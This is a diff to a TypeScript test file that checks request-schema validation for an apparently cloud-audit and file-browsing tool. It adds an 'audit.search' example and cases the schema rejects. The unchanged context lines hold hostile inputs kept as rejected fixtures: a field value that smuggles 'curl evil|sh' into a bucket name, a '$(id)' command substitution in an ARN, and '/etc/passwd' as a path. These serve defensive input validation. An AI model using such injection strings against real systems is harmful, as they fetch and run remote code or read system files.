@@ -59,6 +59,7 @@ const valid: { [C in RequestChannel]: RequestArgs<C> } = {
   'audit.trail': { requestId: 'trail-1', profile: 'prod', region: 'eu-west-1', startTime: Date.now() - 3600_000 },
   'audit.alarmSetup': { profile: 'prod', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:security-alerts', threshold: 3 },
   'audit.local': { limit: 100 },
+  'audit.search': { requestId: 'search-1', profiles: ['prod', 'staging'], regions: ['eu-west-1', 'us-east-1'], hostId: 'h1', user: 'arn:aws:iam::123456789012:user/alice', osUser: 'root' },
   'files.open': { requestId: 'files-1', hostId: 'h1' },
   'files.close': { browserId: 'b1' },
   'files.list': { browserId: 'b1', requestId: 'ls-1', path: 'L2hvbWUvZWMyLXVzZXI=' },
@@ -150,6 +151,13 @@ describe('the contract schemas', () => {
       ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', trailBucket: "logs'; curl evil|sh; '" }],
       ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:x $(id)' }],
       ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', threshold: 0 }],
+      // A person's ARN with a control character or a space, a regex for an OS user, a region list too long, both a host and an instance.
+      ['audit.search', { requestId: 's', profiles: ['p'], regions: ['eu-west-1'], user: 'arn:aws:iam::123456789012:user/a\u001b[2J' }],
+      ['audit.search', { requestId: 's', profiles: ['p'], regions: ['eu-west-1'], user: 'alice smith' }],
+      ['audit.search', { requestId: 's', profiles: ['p'], regions: ['eu-west-1'], osUser: '.*' }],
+      ['audit.search', { requestId: 's', profiles: [], regions: ['eu-west-1'] }],
+      ['audit.search', { requestId: 's', profiles: ['p'], regions: Array.from({ length: 33 }, (_, i) => `eu-west-${i}`) }],
+      ['audit.search', { requestId: 's', profiles: ['p'], regions: ['eu-west-1'], hostId: 'h1', instanceId: 'i-0123456789abcdef0' }],
       // Remote names travel as base64 bytes, nothing else.
       ['files.list', { browserId: 'b1', requestId: 'l', path: '/etc/passwd' }],
       ['files.list', { browserId: 'b1', requestId: 'l' }],
